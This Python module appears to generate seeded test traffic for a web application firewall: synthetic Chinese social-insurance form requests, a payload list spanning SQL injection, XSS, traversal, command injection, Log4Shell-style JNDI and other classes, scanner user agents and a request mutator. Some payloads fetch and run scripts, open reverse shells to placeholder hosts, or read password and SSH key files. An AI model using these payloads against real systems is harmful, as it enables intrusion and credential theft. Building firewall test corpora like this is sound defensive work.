"""Requests for judging rules: honest Chinese forms, attacks of every class, and mutants of both.  Seeded: the same each run.

Everything here is our own writing: payloads are ordinary examples of their class, as any textbook has them.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from random import Random
from typing import NamedTuple
from urllib.parse import quote, quote_plus

from dmz.waf.seclang.sent_request import Pairs, SentRequest

_BROWSER: Pairs = (
    (b"Host", b"hall.example"),
    (b"User-Agent", b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    (b"Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    (b"Accept-Language", b"zh-CN,zh;q=0.8,en;q=0.5"),
)
_FORM = b"application/x-www-form-urlencoded"
_BOUNDARY = b"----form5f2c81a7"

_FAMILY = "王李张刘陈杨黄赵吴周徐孙马朱胡郭何高林罗郑梁谢宋唐许韩冯邓曹"
_GIVEN = "伟芳娜敏静丽强磊军洋勇艳杰娟涛明超秀霞平刚桂英华建国玉兰志文"
_STREETS = ("人民路", "解放大道", "中山北路", "建设街", "和平里", "长江路", "文化巷", "新华东街")
_PLACES = ("江岸区", "武昌区", "洪山区", "汉阳区", "青山区", "东西湖区")
_UNITS = (
    "第一人民医院",
    "市自来水公司",
    "宏达机械有限公司",
    "绿源食品厂(分厂)",
    "东湖中学",
    "A&B 贸易公司",
    "“光明”乳业",
)
_REMARKS = (
    "本人因工作调动,申请将社保关系转移至新单位,请予办理。",
    "退休金尚未到账(3月份),请核实;联系电话见上。",
    "Re: 2024-05-01 补缴——金额 1,234.50 元,共 3 个月",
    "姓名中的“䶮”字无法录入,暂用“龑”代替!",
    "地址变更:原 12 号楼 3 单元 501 室 → 现 8 号楼 2-1203",
    "医保卡丢失,已于昨日挂失。是否需要到窗口?谢谢~",
    "单位已注销, 档案存放于人才中心;材料:①身份证 ②户口本 ③离职证明",
    "工伤认定:右手食指骨折, 见附件 1/3。",
    "please call me after 17:00, my Chinese name is 李雷",
    "参保类型=灵活就业; 缴费基数 4,500元/月 (60%)",
    "孩子新生儿参保,出生日期2024/02/29,母亲:张娜",
    "email: zhang.wei@example.cn 或 微信 zw_1988",
)
_BREAKS = ("\n", "\r\n", "  ", "、", ";", " - ", "...", "?!")


def _person(chance: Random) -> dict[str, str]:
    name = chance.choice(_FAMILY) + "".join(chance.sample(_GIVEN, chance.choice((1, 2))))
    day = f"{chance.randint(1950, 2005)}{chance.randint(1, 12):02}{chance.randint(1, 28):02}"
    remark = chance.choice(_BREAKS).join(chance.sample(_REMARKS, chance.randint(0, 3)))
    return {
        "name": name,
        "id_number": f"42010{chance.randint(2, 7)}{day}{chance.randint(0, 999):03}{chance.choice('0123456789X')}",
        "phone": f"1{chance.choice('3578')}{chance.randint(0, 10**9 - 1):09}",
        "birth": f"{day[:4]}-{day[4:6]}-{day[6:]}",
        "gender": chance.choice("男女"),
        "address": f"湖北省武汉市{chance.choice(_PLACES)}{chance.choice(_STREETS)}{chance.randint(1, 400)}号",
        "unit": chance.choice(_UNITS),
        "account": f"6222{chance.randint(0, 10**15 - 1):015}",
        "base": f"{chance.randint(3000, 25000)}.{chance.randint(0, 99):02}",
        "email": f"u{chance.randint(1, 99999)}@example.cn",
        "months": str(chance.randint(1, 36)),
        "remark": remark,
        "agree": "on",
    }


def _encoded(fields: Mapping[str, str]) -> bytes:
    return "&".join(f"{quote_plus(name)}={quote_plus(value)}" for name, value in fields.items()).encode()


def posted(body: bytes, kind: bytes = _FORM, uri: bytes = b"/hall/declare", more: Pairs = ()) -> SentRequest:
    """Make a POST."""
    length = (b"Content-Length", b"%d" % len(body))
    return SentRequest(b"POST", uri, b"HTTP/1.1", (*_BROWSER, *more, (b"Content-Type", kind), length), body)


def asked(uri: bytes, more: Pairs = ()) -> SentRequest:
    """Make a GET."""
    return SentRequest(b"GET", uri, b"HTTP/1.1", (*_BROWSER, *more))


def benign_forms(count: int, seed: int) -> Iterator[SentRequest]:
    """Give honest requests: forms, searches, uploads of a small table."""
    chance = Random(seed)
    for number in range(count):
        person = _person(chance)
        session = (b"Cookie", b"lang=zh; sid=%032x" % chance.getrandbits(128))
        if number % 8 == 6:
            query = _encoded({"q": person["name"], "page": person["months"], "from": person["birth"]})
            yield asked(b"/hall/search?" + query, (session,))
        elif number % 8 == 7:
            yield posted(_multipart(person), b"multipart/form-data; boundary=" + _BOUNDARY, b"/hall/upload", (session,))
        else:
            yield posted(_encoded(person), more=(session,))


def _multipart(person: Mapping[str, str], file_name: str = "名单.csv") -> bytes:
    parts = [f'Content-Disposition: form-data; name="{key}"\r\n\r\n{value}' for key, value in person.items()]
    rows = f"姓名,证件号码\r\n{person.get('name', '')},{person.get('id_number', '')}\r\n"
    parts.append(
        f'Content-Disposition: form-data; name="table"; filename="{file_name}"\r\nContent-Type: text/csv\r\n\r\n{rows}'
    )
    return (
        b"".join(b"--" + _BOUNDARY + b"\r\n" + part.encode() + b"\r\n" for part in parts)
        + b"--"
        + _BOUNDARY
        + b"--\r\n"
    )


class Attack(NamedTuple):
    """An attack's class and its text."""

    kind: str
    text: str


_ATTACKS: Mapping[str, tuple[str, ...]] = {
    "sqli": (
        "1' or '1'='1",
        "1 or 1=1-- -",
        "' union select null,version(),user()-- -",
        "1; drop table insured",
        "admin'--",
        "1' and sleep(5)#",
        "1) union all select 1,2,3 from information_schema.tables--",
        "x' or benchmark(9999999,md5(1))='0",
        "1' order by 12-- -",
        "'; exec xp_cmdshell('dir');--",
        "1 and extractvalue(1,concat(0x7e,user()))",
        "1'||(select pg_sleep(3))||'",
        "0/**/union/**/select/**/password/**/from/**/users",
        "1' having 1=1--",
        "id=1 group by x having count(*)>1",
        '" or ""="',
        "1; waitfor delay '0:0:5'--",
        "-1 union select load_file('/etc/passwd')",
        "1 into outfile '/tmp/a'",
        "(select 1 from dual)",
        "1#楼内",
    ),
    "xss": (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(document.cookie)>',
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        "<iframe src=javascript:alert(1)>",
        "<body onpageshow=alert(1)>",
        '<a href="data:text/html,<script>1</script>">x</a>',
        "<style>@import'http://e.example/x.css'</style>",
        "<input autofocus onfocus=alert(1)>",
        "';alert(String.fromCharCode(88))//",
        "<object data=x.swf>",
        "<math><mi xlink:href=javascript:1>",
        "<meta http-equiv=refresh content=0;url=javascript:1>",
        "<details open ontoggle=alert`1`>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "{{constructor.constructor('alert(1)')()}}",
        "<ScRiPt SRC=//e.example/x.js>",
        "<embed src=javascript:alert(1)>",
        "eval(atob('YWxlcnQoMSk='))",
        "document.write('<b>')",
    ),
    "traversal": (
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "....//....//etc/shadow",
        "%2e%2e%2f%2e%2e%2fetc/passwd",
        "..%252f..%252fboot.ini",
        "/var/www/../../etc/hosts",
        "..;/..;/WEB-INF/web.xml",
        "..%c0%af..%c0%afetc/passwd",
        "file:///../../etc/group",
        "/../../.ssh/id_rsa",
        "../../etc/etc/passwd",
    ),
    "lfi": (
        "/etc/passwd",
        "/proc/self/environ",
        "/etc/shadow",
        ".git/config",
        "/.htaccess",
        "/.env",
        "wp-config.php",
        "/root/.bash_history",
        "/usr/local/apache/conf/httpd.conf",
        "c:/boot.ini",
        "/proc/version",
        "/etc/ssh/sshd_config",
    ),
    "rfi": (
        "http://10.1.2.3/shell.txt?",
        "http://e.example/c99.php?cmd=id",
        "ftp://e.example/x.php",
        "https://192.0.2.7/a.txt??",
        "http://e.example/r57.txt?",
        "//e.example/x.txt?",
        "expect://id",
        "zip://a.zip#b",
        "ldap://10.0.0.1/a",
        "gopher://127.0.0.1:25/_x",
    ),
    "rce": (
        ";cat /etc/passwd",
        "| ls -la",
        "`id`",
        "$(whoami)",
        "&& wget http://e.example/x.sh -O- | sh",
        "; nc -e /bin/sh 10.0.0.1 4444",
        "|| ping -c 10 127.0.0.1",
        "() { :;}; /bin/bash -c 'id'",
        "& dir c:\\",
        "powershell -enc SQBFAFgA",
        "cmd.exe /c net user",
        "; python -c 'import os'",
        "$(curl http://e.example/a)",
        "{cat,/etc/passwd}",
        "c'a't /et'c'/passwd",
        "/bin/bash -i >& /dev/tcp/10.0.0.1/1 0>&1",
        "; uname -a",
        "| tee /tmp/x",
        "${IFS}cat${IFS}/etc/hosts",
        "; rm -rf /tmp/x",
        "%0Aid",
        "; echo $PATH",
        "for i in 1 2; do id; done",
        "; chmod 777 x",
    ),
    "php": (
        "<?php system($_GET['c']); ?>",
        "<?= `id` ?>",
        "php://filter/convert.base64-encode/resource=index",
        "data://text/plain;base64,PD8=",
        'O:8:"stdClass":1:{s:1:"a";i:1;}',
        "phpinfo()",
        "eval($_POST[x])",
        "assert(base64_decode('cGhw'))",
        "allow_url_include=on",
        "$_SERVER['PATH']",
        "preg_replace('/.*/e','phpinfo()','')",
        "call_user_func('system','id')",
        "file_put_contents('a.php','x')",
        "shell_exec('ls')",
        "move_uploaded_file($a,$b)",
        "${@print(md5(1))}",
    ),
    "java": (
        "${jndi:ldap://e.example/a}",
        "${${lower:j}ndi:rmi://e.example/a}",
        "java.lang.Runtime.getRuntime().exec('id')",
        "(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)",
        "class.module.classLoader.resources.context.parent",
        "java.io.FileInputStream",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
        "org.apache.commons.collections.functors.InvokerTransformer",
        "%{(#a='x')}",
        "T(java.lang.Runtime).getRuntime()",
        "javax.script.ScriptEngineManager",
        "com.sun.rowset.JdbcRowSetImpl",
        "${java:os}",
        "#{7*7}",
    ),
    "node": (
        "require('child_process').exec('id')",
        "__proto__[admin]=1",
        "constructor.prototype.x=1",
        "process.mainModule.require('fs')",
        '{"$ne":null}',
        '{"$gt":""}',
        "this.constructor.constructor('return process')()",
        "_$$ND_FUNC$$_function(){}()",
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:22/",
        "{{7*7}}",
        "<%= 7*7 %>",
    ),
    "fixation": (
        '<meta http-equiv="Set-Cookie" content="a=1">',
        "document.cookie='JSESSIONID=1'",
        "jsessionid=abc",
        "PHPSESSID=1234567890abcdef",
        '.cookie="sid=1";expires=',
        "asp.net_sessionid=1",
    ),
    "splitting": (
        "x\r\nSet-Cookie: a=1",
        "x\r\nLocation: http://e.example/",
        "a\nContent-Length: 0\n\nHTTP/1.1 200 OK",
        "x\r\n\r\n<html>x</html>",
        "GET /x HTTP/1.1\r\nHost: y",
        "http/1.0\r\nContent-Type: text/html",
    ),
    "ldap": (
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "(|(mail=*)(cn=*))",
        "x*)(objectClass=*",
        "a)(!(b=c))",
        "*)(|(password=*)",
    ),
}
_SCANNERS = ("sqlmap/1.7", "Nikto/2.5", "nessus", "Mozilla/5.0 Nmap Scripting Engine", "masscan/1.0", "w3af.org", "dirbuster", "python-requests/2.31",
             "curl/8.0", "Go-http-client/1.1", "libwww-perl/6", "ZmEu", "Arachni/1", "OpenVAS", "havij", "wpscan", "nuclei", "gobuster/3")  # fmt: skip


def attacks() -> list[Attack]:
    """Give every text with its class."""
    return [Attack(kind, text) for kind, texts in _ATTACKS.items() for text in texts]


def attack_requests() -> Iterator[SentRequest]:
    """Give each attack in a query, in a form and in one other place; scanners; faults of the protocol."""
    for number, attack in enumerate(attacks()):
        text = attack.text
        yield asked(b"/hall/search?q=" + quote(text, safe="").encode() + b"&page=1")
        yield posted(_encoded({"name": "王芳", "remark": text}))
        yield _elsewhere(text, number)
    for name in _SCANNERS:
        yield SentRequest(b"GET", b"/hall/", b"HTTP/1.1", (_BROWSER[0], (b"User-Agent", name.encode()), *_BROWSER[2:]))
    yield from protocol_faults()


def _elsewhere(text: str, number: int) -> SentRequest:
    line = " ".join(text.split()).encode()
    places = (
        lambda: asked(b"/hall/", ((b"Cookie", b"lang=zh; pref=" + quote(text, safe="'()*!").encode()),)),
        lambda: asked(b"/hall/", ((b"Referer", b"https://hall.example/?x=" + line),)),
        lambda: posted(
            json.dumps({"name": "王芳", "list": [text, 1]}, ensure_ascii=False).encode(), b"application/json"
        ),
        lambda: posted(_multipart({"name": "王芳", "remark": text}), b"multipart/form-data; boundary=" + _BOUNDARY),
        lambda: asked(b"/hall/" + quote(text, safe="/.;'()").encode()),
        lambda: posted(_encoded({text: "1"})),
        lambda: posted(_xml(text), b"application/xml"),
        lambda: asked(b"/hall/", ((b"X-Note", line),)),
    )
    return places[number % len(places)]()


def _xml(text: str) -> bytes:
    safe = text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    return f'<?xml version="1.0"?><form a="{safe}"><remark>{safe}</remark></form>'.replace("\r", "").encode()


def protocol_faults() -> Iterator[SentRequest]:
    """Give requests that are faulty as messages, so far as a parser lets them through."""
    host, *others = _BROWSER
    yield SentRequest(b"GET", b"/", b"HTTP/1.1", tuple(others))
    yield SentRequest(b"GET", b"/", b"HTTP/1.1", ((b"Host", b"10.0.0.1"), *others))
    yield SentRequest(b"GET", b"/", b"HTTP/1.1", (host, *others[1:]))
    yield SentRequest(b"TRACE", b"/", b"HTTP/1.1", _BROWSER)
    yield SentRequest(b"PUT", b"/", b"HTTP/1.1", _BROWSER)
    yield SentRequest(b"GET", b"/", b"HTTP/0.9", _BROWSER)
    yield asked(b"/a%00b")
    yield asked(b"/a?x=%u0027")
    yield asked(b"/a?x=%zz")
    yield asked(b"/a?x=%ff%fe")
    yield asked(b"/a?x=%250a")
    yield asked(b"/a.bak")
    yield asked(b"/a.sql?x=1")
    yield asked(b"/", ((b"Range", b"bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13"),))
    yield asked(b"/", ((b"Proxy", b"x"),))
    yield asked(b"/", ((b"Content-Encoding", b"gzip"),))
    yield asked(b"/", ((b"Content-Length", b"x1"),))
    yield asked(b"/", ((b"Accept-Charset", b"utf-8"),))
    yield asked(b"/", ((b"Connection", b"keep-alive, close"),))
    yield posted(b"a=1", b"text/plain")
    yield posted(b"a=1", b"application/x-www-form-urlencoded; charset=utf-7")
    yield posted(b"a=1", b"application/x-java-serialized-object")
    yield posted(b"{", b"application/json")
    yield posted(b"a=" + b"x" * 300)
    yield asked(b"/?" + b"&".join(b"a%d=1" % n for n in range(300)))


def mutants(requests: list[SentRequest], count: int, seed: int) -> Iterator[SentRequest]:
    """Give requests like those given, each changed in its query or body in one to three places."""
    chance = Random(seed)
    for _ in range(count):
        sent = chance.choice(requests)
        path, mark, query = sent.uri.partition(b"?")
        if mark:
            yield SentRequest(sent.method, path + mark + _mutant(query, chance), sent.protocol, sent.headers, sent.body)
            continue
        body = _mutant(sent.body, chance)
        headers = tuple((k, b"%d" % len(body)) if k == b"Content-Length" else (k, v) for k, v in sent.headers)
        yield SentRequest(sent.method, sent.uri, sent.protocol, headers, body)


_INSERTED = (b"+", b"%20", b"%09", b"%0a", b"/**/", b"%2f", b"'", b"%27", b"%22", b"(", b")", b"%3b", b"--", b"%3c", b"%3e", b"%00", b"\\", b"=", b"%e4%bd%a0",
             b"%u003c", b"&lt;", b"${", b"a", b"0", b";", b"|", b"`", b"%25", b"#", b"*", b",")  # fmt: skip


def _mutant(text: bytes, chance: Random) -> bytes:
    for _ in range(chance.randint(1, 3)):
        at = chance.randrange(len(text) + 1)
        way = chance.randrange(5)
        end = min(at + chance.randint(1, 6), len(text))
        if way == 0:
            text = text[:at] + chance.choice(_INSERTED) + text[at:]
        elif way == 1:
            text = text[:at] + text[end:]
        elif way == 2:
            text = text[:at] + text[at:end].swapcase() + text[end:]
        elif way == 3:
            text = text[:at] + b"".join(b"%%%02x" % sign for sign in text[at:end]) + text[end:]
        else:
            text = text[:at] + text[at:end] * 2 + text[end:]
    return text
